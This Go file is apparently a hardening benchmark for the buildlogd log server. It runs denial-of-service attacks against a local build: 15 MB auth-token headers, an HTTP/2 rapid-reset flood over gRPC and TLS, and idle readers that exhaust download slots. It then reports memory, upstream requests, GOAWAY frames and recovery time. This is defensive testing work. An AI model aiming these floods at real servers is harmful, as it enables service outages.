// Command attack runs, against a real buildlogd process in front of the
// simulated upstream, the attacks of the hardening issue that need no
// valid token, and prints what each cost the server:
//
//   - headers: calls with a 15 MB x-auth-token, 16 and then 32 at once,
//     on raw HTTP/2 connections to the gRPC port: buildlogd's peak RSS;
//   - reset: one HTTP/2 connection opening download streams and resetting
//     them at once, to the gRPC port and to the REST port over TLS: the
//     streams it got to open, the upstream requests they caused, the
//     server's GOAWAY and its log lines;
//   - idle: 4 gRPC and 4 REST readers of a large log that read one chunk
//     and stop, with --max-downloads 8: how long until another caller is
//     served.
//
// It builds buildlogd from this repository, or runs -buildlogd, an older
// build to compare with (flags it lacks are left out). Run it from the
// repository root:
//
//	go run ./bench/attack [-buildlogd path] [-streams 100000]
package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/metadata"
	"google.golang.org/protobuf/proto"

	"github.com/buildlog/buildlog/api"
	buildlogv1 "github.com/buildlog/buildlog/gen/buildlog/v1"
	"github.com/buildlog/buildlog/internal/benchproc"
	"github.com/buildlog/buildlog/internal/syncbuf"
	"github.com/buildlog/buildlog/upstream/upstreamtest"
)

const (
	recordID = "0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d"
	token    = "attack-token"
)

func main() {
	bin := flag.String("buildlogd", "", "buildlogd binary to attack; default: build this repository's")
	streams := flag.Int("streams", 100_000, "streams the rapid reset opens on its connection")
	flag.Parse()
	if err := run(*bin, *streams); err != nil {
		fmt.Fprintln(os.Stderr, "attack:", err)
		os.Exit(1)
	}
}

func run(bin string, streams int) error {
	dir, err := os.MkdirTemp("", "attack-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	if bin == "" {
		if bin, err = benchproc.Build(dir); err != nil {
			return err
		}
	}
	help, _ := exec.Command(bin, "--help").CombinedOutput()
	up, err := upstreamtest.Start("127.0.0.1:0")
	if err != nil {
		return err
	}
	defer up.Close()
	up.AddToken(token)
	up.AddLog(recordID, "small", upstreamtest.Log{Size: 1 << 10})
	up.AddLog(recordID, "big", upstreamtest.Log{Size: 4 << 30})
	a := &attacker{bin: bin, help: string(help), dir: dir, up: up}

	fmt.Printf("| attack | figure | value |\n| --- | --- | --- |\n")
	for _, parallel := range []int{16, 32} {
		rss, err := a.headers(parallel)
		if err != nil {
			return fmt.Errorf("headers: %w", err)
		}
		fmt.Printf("| %d calls with a 15 MB token | peak RSS | %.0f MiB |\n", parallel, float64(rss)/(1<<20))
	}
	for _, grpcPort := range []bool{true, false} {
		r, err := a.reset(streams, grpcPort)
		if err != nil {
			return fmt.Errorf("reset: %w", err)
		}
		name := map[bool]string{true: "gRPC", false: "REST over TLS"}[grpcPort]
		fmt.Printf("| rapid reset, %s | streams opened and reset | %d |\n", name, r.opened)
		fmt.Printf("| rapid reset, %s | upstream requests (of the streams sent, of those opened) | %d (%.2f%%, %.2f%%) |\n", name, r.upstream,
			100*float64(r.upstream)/float64(streams), 100*float64(r.upstream)/float64(max(r.opened, 1)))
		fmt.Printf("| rapid reset, %s | GOAWAY | %s |\n", name, r.goAway)
		fmt.Printf("| rapid reset, %s | log lines (per-stream, connection closed) | %d, %d |\n", name, r.streamLines, r.closeLines)
	}
	freed, err := a.idle()
	if err != nil {
		return fmt.Errorf("idle: %w", err)
	}
	fmt.Printf("| 8 readers that stop, --max-downloads 8 | another caller served after | %s |\n", freed)
	return nil
}

type attacker struct {
	bin, help, dir string
	up             *upstreamtest.Server
}

// server is a running buildlogd whose log lines are kept.
type server struct {
	cmd            *exec.Cmd
	grpcAddr, http string
	logs           *syncbuf.Buffer
	exited         chan struct{} // closed once the process exited and was waited for
}

// start runs buildlogd with flags, leaving out those it does not know.
func (a *attacker) start(flags ...string) (*server, error) {
	args := []string{"--upstream", a.up.URL, "--grpc-addr", "127.0.0.1:0", "--http-addr", "127.0.0.1:0", "--admin-addr", "off"}
	for i := 0; i < len(flags); i += 2 {
		if strings.Contains(a.help, "-"+strings.TrimLeft(flags[i], "-")+" ") {
			args = append(args, flags[i], flags[i+1])
		}
	}
	s := &server{cmd: exec.Command(a.bin, args...), logs: &syncbuf.Buffer{}}
	s.cmd.Env = benchproc.Environ()
	pr, pw := io.Pipe()
	s.cmd.Stderr = io.MultiWriter(s.logs, pw)
	if err := s.cmd.Start(); err != nil {
		return nil, err
	}
	s.exited = make(chan struct{})
	go func() {
		s.cmd.Wait()
		pw.Close()
		close(s.exited)
	}()
	dec := json.NewDecoder(pr)
	for {
		var line struct{ Msg, GRPC, HTTP string }
		if err := dec.Decode(&line); err != nil {
			return nil, fmt.Errorf("buildlogd exited before serving: %s", s.logs)
		}
		if line.Msg == "serving" {
			s.grpcAddr, s.http = line.GRPC, line.HTTP
			go io.Copy(io.Discard, pr)
			return s, nil
		}
	}
}

// stop shuts buildlogd down and waits for it. Only the goroutine of
// start waits for the process: a second Wait could block for ever.
func (s *server) stop() {
	s.cmd.Process.Signal(os.Interrupt)
	<-s.exited
}

func (s *server) peakRSS() int64 { return (&benchproc.Process{Cmd: s.cmd}).PeakRSS() }

// headers sends parallel calls with a 15 MB token, each on a connection of
// its own, and returns the server's peak RSS once they are over.
func (a *attacker) headers(parallel int) (int64, error) {
	s, err := a.start()
	if err != nil {
		return 0, err
	}
	defer s.stop()
	huge := "MIIB" + strings.Repeat("Q", 15<<20)
	var wg sync.WaitGroup
	for range parallel {
		wg.Go(func() {
			conn, err := net.Dial("tcp", s.grpcAddr)
			if err != nil {
				return
			}
			defer conn.Close()
			conn.SetDeadline(time.Now().Add(time.Minute))
			fr := http2.NewFramer(conn, conn)
			go io.Copy(io.Discard, conn)
			conn.Write([]byte(http2.ClientPreface))
			fr.WriteSettings()
			writeHeaders(fr, 1, grpcFields(s.grpcAddr, huge), false)
			time.Sleep(time.Second) // the server holds what it read
		})
	}
	wg.Wait()
	return s.peakRSS(), nil
}

type resetResult struct {
	opened, upstream, streamLines, closeLines int
	goAway                                    string
}

// reset opens streams on one connection, in batches of 50 reset at once,
// until all are sent or the server closes the connection.
func (a *attacker) reset(streams int, grpcPort bool) (resetResult, error) {
	var flags []string
	if !grpcPort {
		cert, key, err := selfSigned(a.dir)
		if err != nil {
			return resetResult{}, err
		}
		flags = []string{"--tls-cert", cert, "--tls-key", key}
	}
	s, err := a.start(flags...)
	if err != nil {
		return resetResult{}, err
	}
	defer s.stop()
	before := a.up.RequestCount()
	var conn net.Conn
	if grpcPort {
		conn, err = net.Dial("tcp", s.grpcAddr)
	} else {
		conn, err = tls.Dial("tcp", s.http, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	}
	if err != nil {
		return resetResult{}, err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(5 * time.Minute))
	fr := http2.NewFramer(conn, conn)
	goAway := make(chan string, 1)
	go func() {
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				goAway <- "none (the connection ended: " + err.Error() + ")"
				return
			}
			if ga, ok := f.(*http2.GoAwayFrame); ok && ga.ErrCode != http2.ErrCodeNo {
				goAway <- ga.ErrCode.String()
				return
			}
		}
	}()
	conn.Write([]byte(http2.ClientPreface))
	fr.WriteSettings()
	msg, _ := proto.Marshal(&buildlogv1.DownloadTaskLogRequest{RecordId: recordID, TaskName: "small"})
	body := append([]byte{0, 0, 0, 0, byte(len(msg))}, msg...)
	fields := grpcFields(s.grpcAddr, token)
	if !grpcPort {
		fields = [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/v4/" + recordID + "/task-log?task_name=small"},
			{":authority", s.http}, {"x-auth-token", token}}
	}
	const batch = 50
	r := resetResult{}
	for r.opened < streams {
		var err error
		for i := 0; i < batch && err == nil; i++ {
			id := uint32(2*(r.opened+i) + 1)
			if err = writeHeaders(fr, id, fields, !grpcPort); err == nil && grpcPort {
				err = fr.WriteData(id, true, body)
			}
		}
		for i := 0; i < batch && err == nil; i++ {
			err = fr.WriteRSTStream(uint32(2*(r.opened+i)+1), http2.ErrCodeCancel)
		}
		if err != nil {
			break
		}
		r.opened += batch
	}
	select {
	case r.goAway = <-goAway:
	case <-time.After(30 * time.Second):
		r.goAway = "none within 30s"
	}
	time.Sleep(2 * time.Second) // the last calls end
	r.upstream = a.up.RequestCount() - before
	logs := s.logs.String()
	r.streamLines, r.closeLines = strings.Count(logs, `"msg":"stream"`), strings.Count(logs, "closing connection")
	return r, nil
}

// idle takes every download slot with readers that stop after their first
// chunk, and returns how long until another caller is served.
func (a *attacker) idle() (string, error) {
	s, err := a.start("--max-downloads", "8", "--caller-idle-timeout", "5s")
	if err != nil {
		return "", err
	}
	defer s.stop()
	ctx, cancel := context.WithCancel(metadata.AppendToOutgoingContext(context.Background(), api.TokenMetadataKey, token))
	defer cancel()
	conn, err := grpc.NewClient(s.grpcAddr, grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithInitialWindowSize(64<<10), grpc.WithInitialConnWindowSize(64<<10))
	if err != nil {
		return "", err
	}
	defer conn.Close()
	client := buildlogv1.NewBuildLogServiceClient(conn)
	for range 4 {
		stream, err := client.DownloadTaskLog(ctx, &buildlogv1.DownloadTaskLogRequest{RecordId: recordID, TaskName: "big"})
		if err == nil {
			_, err = stream.Recv()
		}
		if err != nil {
			return "", err
		}
		req, _ := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+s.http+"/v4/"+recordID+"/task-log?task_name=big", nil)
		req.Header.Set("X-Auth-Token", token)
		resp, err := (&http.Client{Transport: &http.Transport{}}).Do(req)
		if err != nil {
			return "", err
		}
		resp.Body.Read(make([]byte, 1000))
		defer resp.Body.Close()
	}
	start := time.Now()
	for time.Since(start) < time.Minute {
		other, err := client.DownloadTaskLog(ctx, &buildlogv1.DownloadTaskLogRequest{RecordId: recordID, TaskName: "small"})
		if err == nil {
			if _, err = other.Recv(); err == nil {
				return time.Since(start).Round(100 * time.Millisecond).String(), nil
			}
		}
		time.Sleep(500 * time.Millisecond)
	}
	return "never, within a minute", nil
}

func grpcFields(authority, tok string) [][2]string {
	return [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", "/buildlog.v1.BuildLogService/DownloadTaskLog"},
		{":authority", authority}, {"content-type", "application/grpc"}, {"te", "trailers"}, {"x-auth-token", tok}}
}

// writeHeaders writes a HEADERS frame and the CONTINUATION frames a large
// header block needs, whatever limit the server advertised.
func writeHeaders(fr *http2.Framer, id uint32, fields [][2]string, endStream bool) error {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range fields {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	b := block.Bytes()
	first := b[:min(len(b), 16<<10)]
	if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndHeaders: len(first) == len(b), EndStream: endStream}); err != nil {
		return err
	}
	for b = b[len(first):]; len(b) > 0; {
		n := min(len(b), 16<<10)
		if err := fr.WriteContinuation(id, n == len(b), b[:n]); err != nil {
			return err
		}
		b = b[n:]
	}
	return nil
}

// selfSigned writes a self-signed certificate for 127.0.0.1 and its key
// into dir.
func selfSigned(dir string) (cert, key string, err error) {
	priv, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", "", err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &priv.PublicKey, priv)
	if err != nil {
		return "", "", err
	}
	keyDER, err := x509.MarshalECPrivateKey(priv)
	if err != nil {
		return "", "", err
	}
	cert, key = filepath.Join(dir, "tls.crt"), filepath.Join(dir, "tls.key")
	if err := errors.Join(os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600),
		os.WriteFile(key, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}), 0o600)); err != nil {
		return "", "", err
	}
	return cert, key, nil
}
